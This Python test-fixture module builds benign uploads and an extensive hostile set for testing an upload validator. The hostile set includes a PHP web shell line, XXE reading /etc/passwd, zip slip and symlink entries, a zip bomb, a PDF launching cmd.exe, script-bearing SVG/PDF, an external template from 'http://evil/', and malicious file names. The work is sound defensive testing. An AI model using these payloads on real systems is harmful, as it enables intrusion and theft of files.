"""Files to be handed in: good ones, and the hostile set."""

import io
import struct
import zipfile
import zlib

import pillow_heif
import pypdf
from PIL import Image
from pypdf.generic import ArrayObject, DictionaryObject, NameObject, NumberObject, TextStringObject

pillow_heif.register_heif_opener()
MACRO = b"application/vnd.ms-excel.sheet.macroEnabled.main+xml"
SHEET = b"application/vnd.openxmlformats-officedocument.spreadsheetml.sheet.main+xml"
LARGEST = b'<worksheet><dimension ref="A1:XFD1048576"/></worksheet>'
TEMPLATE = b'<Relationships><Relationship Type="x/attachedTemplate" Target="http://evil/" TargetMode="External"/></Relationships>'
DOCUMENT = b"application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml"


def photo(form: str = "JPEG", size: tuple[int, int] = (400, 300), **saving: object) -> bytes:
    memory = io.BytesIO()
    Image.linear_gradient("L").resize(size).convert("RGB").save(memory, form, **saving)
    return memory.getvalue()


def photo_with_notes(orientation: int = 6) -> bytes:
    """As a phone takes it: turned, with time, place and a comment."""
    exif = Image.Exif()
    exif[0x0112] = orientation
    exif[0x010E] = "canary-comment"
    exif.get_ifd(0x8769)[0x9003] = "2026:11:20 15:06:07"
    exif.get_ifd(0x8825)[1] = "N"
    return photo(exif=exif)


def pdf(change: object = None) -> bytes:
    writer = pypdf.PdfWriter()
    writer.add_blank_page(200, 200)
    if callable(change):
        change(writer)
    memory = io.BytesIO()
    writer.write(memory)
    return memory.getvalue()


def _launch(writer: pypdf.PdfWriter) -> None:
    deed = DictionaryObject(
        {NameObject("/S"): NameObject("/Launch"), NameObject("/F"): TextStringObject("cmd.exe")}
    )
    writer.root_object[NameObject("/OpenAction")] = deed


def _names_script(writer: pypdf.PdfWriter) -> None:
    """Where Acrobat keeps the scripts of a document."""
    deed = DictionaryObject(
        {NameObject("/S"): NameObject("/JavaScript"), NameObject("/JS"): TextStringObject("app.alert(1)")}
    )
    names = DictionaryObject({NameObject("/Names"): ArrayObject([TextStringObject("a"), deed])})
    writer.root_object[NameObject("/Names")] = DictionaryObject({NameObject("/JavaScript"): names})


def _hidden_script(writer: pypdf.PdfWriter) -> None:
    """In a note on the page, reached by an indirect object only."""
    deed = DictionaryObject(
        {NameObject("/S"): NameObject("/JavaScript"), NameObject("/JS"): TextStringObject("app.alert(1)")}
    )
    note = DictionaryObject(
        {
            NameObject("/Type"): NameObject("/Annot"),
            NameObject("/Subtype"): NameObject("/Link"),
            NameObject("/Rect"): ArrayObject([NumberObject(0)] * 4),
            NameObject("/A"): writer._add_object(deed),
        }
    )
    writer.pages[0][NameObject("/Annots")] = ArrayObject([writer._add_object(note)])


def office(kind: bytes = SHEET, parts: dict[str, bytes] | None = None, **special: object) -> bytes:
    memory = io.BytesIO()
    with zipfile.ZipFile(memory, "w", zipfile.ZIP_DEFLATED) as archive:
        archive.writestr("[Content_Types].xml", b'<Types><Override ContentType="' + kind + b'"/></Types>')
        for name, data in (parts or {"xl/workbook.xml": b"<workbook/>"}).items():
            archive.writestr(name, data)
        if special.get("link"):
            info = zipfile.ZipInfo("xl/link")
            info.create_system, info.external_attr = 3, 0o120777 << 16
            archive.writestr(info, "/etc/passwd")
    return memory.getvalue()


def flood(width: int = 60_000, height: int = 60_000) -> bytes:
    """A PNG of a few hundred bytes that claims billions of pixels."""

    def part(kind: bytes, data: bytes) -> bytes:
        return struct.pack(">I", len(data)) + kind + data + struct.pack(">I", zlib.crc32(kind + data))

    head = struct.pack(">IIBBBBB", width, height, 8, 0, 0, 0, 0)
    return (
        b"\x89PNG\r\n\x1a\n"
        + part(b"IHDR", head)
        + part(b"IDAT", zlib.compress(b"\0" * 1000))
        + part(b"IEND", b"")
    )


GOOD: dict[str, tuple[str, bytes, str]] = {  # what, (name, content, the kind it is)
    "jpeg": ("现场照片.jpg", photo(), "image"),
    "png": ("图.png", photo("PNG"), "image"),
    "webp of a phone": ("IMG_1.webp", photo("WEBP"), "image"),
    "heic of a phone": ("IMG_2.HEIC", photo("HEIF"), "image"),
    "jpeg named png": ("a.png", photo(), "image"),
    "pdf": ("公函.pdf", pdf(), "pdf"),
    "xlsx": ("名单.xlsx", office(), "xlsx"),
    "docx": ("方案.docx", office(DOCUMENT, {"word/document.xml": b"<w:document/>"}), "docx"),
    "txt": ("说明.txt", "您好".encode(), "txt"),
    "csv of Excel": ("名单.csv", "姓名,部门\n李文静,规划科".encode("gb18030"), "csv"),
}

HOSTILE: dict[str, tuple[str, bytes]] = {
    "html as jpg": ("a.jpg", b"<!doctype html><script>alert(1)</script>"),
    "html as txt": ("a.txt", b"  <html><script>alert(1)</script>"),
    "svg with script": ("a.svg", b'<svg xmlns="http://www.w3.org/2000/svg"><script>alert(1)</script></svg>'),
    "svg as txt": ("a.txt", b"<svg onload=alert(1)>"),
    "gif polyglot": ("a.gif", b"GIF89a/*" + b"\0" * 20 + b"*/=1;alert(1)"),
    "php": ("a.php", b"<?php system($_GET[0]);"),
    "php as csv": ("a.csv", b"<?php system($_GET[0]);"),
    "python": ("a.py", b"import os"),
    "exe": ("a.exe", b"MZ\x90\0\x03" + b"\0" * 60),
    "exe as txt": ("a.txt", b"MZ\x90\0\x03" + b"\0" * 60),
    "bat": ("a.bat", b"@echo off"),
    "lnk": ("a.lnk", b"L\0\0\0\x01\x14\x02\0"),
    "xlsm": ("a.xlsm", office(MACRO, {"xl/vbaProject.bin": b"x"})),
    "macros as xlsx": ("a.xlsx", office(parts={"xl/workbook.xml": b"<w/>", "xl/vbaProject.bin": b"x"})),
    "docm by type only": ("a.docx", office(b"application/vnd.ms-word.document.macroEnabled.main+xml")),
    "zip bomb": ("a.xlsx", office(parts={"xl/a.xml": b"\0" * 120_000_000})),
    "steep zip": ("a.xlsx", office(parts={"xl/a.xml": b" " * 20_000_000})),
    "many entries": ("a.xlsx", office(parts={f"xl/{n}.xml": b"" for n in range(1500)})),
    "plain zip": ("a.zip", office(b"application/zip", {"a.txt": b"x"})),
    "nested zip": ("a.xlsx", office(parts={"xl/inner.zip": b"PK"})),
    "zip slip": ("a.xlsx", office(parts={"../../etc/cron.d/x": b"x"})),
    "zip link": ("a.xlsx", office(link=True)),
    "xxe": ("a.xlsx", office(parts={"xl/workbook.xml": b'<?xml version="1.0"?><!DOCTYPE a [<!ENTITY b SYSTEM "file:///etc/passwd">]><a>&b;</a>'})),
    "xxe in UTF-16": ("a.xlsx", office(parts={"xl/workbook.xml": '<!DOCTYPE a [<!ENTITY b "c">]><a/>'.encode("utf-16")})),
    "largest sheet": ("a.xlsx", office(parts={"xl/worksheets/sheet1.xml": LARGEST})),
    "template from elsewhere": ("a.docx", office(DOCUMENT, {"word/_rels/settings.xml.rels": TEMPLATE})),
    "pixel flood": ("a.png", flood()),
    "pixel flood below the limit of one side": ("a.png", flood(8_000, 8_000)),
    "cut jpeg": ("a.jpg", photo(size=(800, 600))[:900]),
    "corrupt png": ("a.png", photo("PNG")[:60] + b"\0" * 200),
    "pdf with launch": ("a.pdf", pdf(_launch)),
    "pdf with script": ("a.pdf", pdf(_names_script)),
    "pdf with hidden script": ("a.pdf", pdf(_hidden_script)),
    "pdf with a file": ("a.pdf", pdf(lambda w: w.add_attachment("x.exe", b"MZ"))),
    "locked pdf": ("a.pdf", pdf(lambda w: w.encrypt("x"))),
    "broken pdf": ("a.pdf", b"%PDF-1.7\n" + b"x" * 500),
    "eps": ("a.eps", b"%!PS-Adobe-3.0 EPSF-3.0\n%%BoundingBox: 0 0 1 1\n"),
    "eps as jpg": ("a.jpg", b"%!PS-Adobe-3.0 EPSF-3.0\n"),
    "empty": ("a.jpg", b""),
    "old word": ("a.doc", bytes.fromhex("D0CF11E0A1B11AE1") + b"\0" * 512),
}  # fmt: skip

NAMES: dict[str, str] = {
    "../../etc/passwd.jpg": "passwd.jpg", "..\\..\\boot.jpg": "boot.jpg", "CON.jpg": "file_CON.jpg", "con": "file_con.jpg",
    "长" * 300 + ".jpg": "长" * 96 + ".jpg", "a\u202egpj.exe": "agpj.jpg", "a\x00b.jpg": "a_b.jpg", "-rf.jpg": "rf.jpg",
    ".htaccess": "htaccess.jpg"[0:0] or "file.jpg", "a\r\nSet-Cookie: x.jpg": "a__Set-Cookie_ x.jpg", "": "file.jpg",
    '"><script>.jpg': "script.jpg", "照片 一.JPG": "照片 一.jpg", "a.php.jpg": "a.php.jpg", "LPT1.txt.jpg": "file_LPT1.txt.jpg",
}  # fmt: skip
